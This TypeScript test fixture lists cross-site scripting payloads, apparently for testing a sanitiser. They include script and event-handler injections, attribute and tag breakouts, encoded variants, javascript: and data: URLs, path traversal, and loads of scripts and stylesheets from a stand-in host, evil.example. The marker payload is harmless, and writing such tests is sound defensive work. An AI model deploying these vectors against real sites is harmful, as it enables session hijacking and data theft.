/** Texts that try to run a script where they are shown. Each sets `window.hit` or asks evil.example if it succeeds. */

const run = "window.hit=1;document.title=`hit`";

const carriers: readonly string[] = [
  "<script>#</script>",
  "<img src=x onerror=#>",
  "<svg onload=#>",
  `"><script>#</script>`,
  `'><img src=x onerror=#>`,
  `" autofocus onfocus="#`,
  `' autofocus onfocus='#`,
  "</title><script>#</script>",
  "</textarea><script>#</script>",
  "</script><script>#</script>",
  "</style><script>#</script>",
  "--><script>#</script><!--",
  "]]><script>#</script>",
  "<details open ontoggle=#>x</details>",
  "<iframe srcdoc='<script>parent.#</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=#></style></table></mtext></math>",
  "<body onload=#>",
  `<meta http-equiv="refresh" content="0;url=javascript:#">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/a.css">`,
  `<form action="javascript:#"><button>x</button></form>`,
  "{{ '<script>#</script>' | raw }}{% raw %}<script>#</script>{% endraw %}",
  "&lt;script&gt;#&lt;/script&gt;&#60;img src=x onerror=#&#62;",
  "\\u003cscript\\u003e#\\u003c/script\\u003e",
  "<ScRiPt\n>#</sCrIpT\t>",
];

export const hostileTexts = carriers.map((carrier) => carrier.replaceAll("#", run));

/** Addresses that run a script when they are followed or loaded. */
export const hostileAddresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `https://evil.example/"onload="${run}`,
  "//evil.example/x.js",
  `https://www.youtube.com/watch?v="><script>${run}</script>`,
  `https://evil.example/embed/dQw4w9WgXcQ`,
  "/files/1/../../api/company",
];
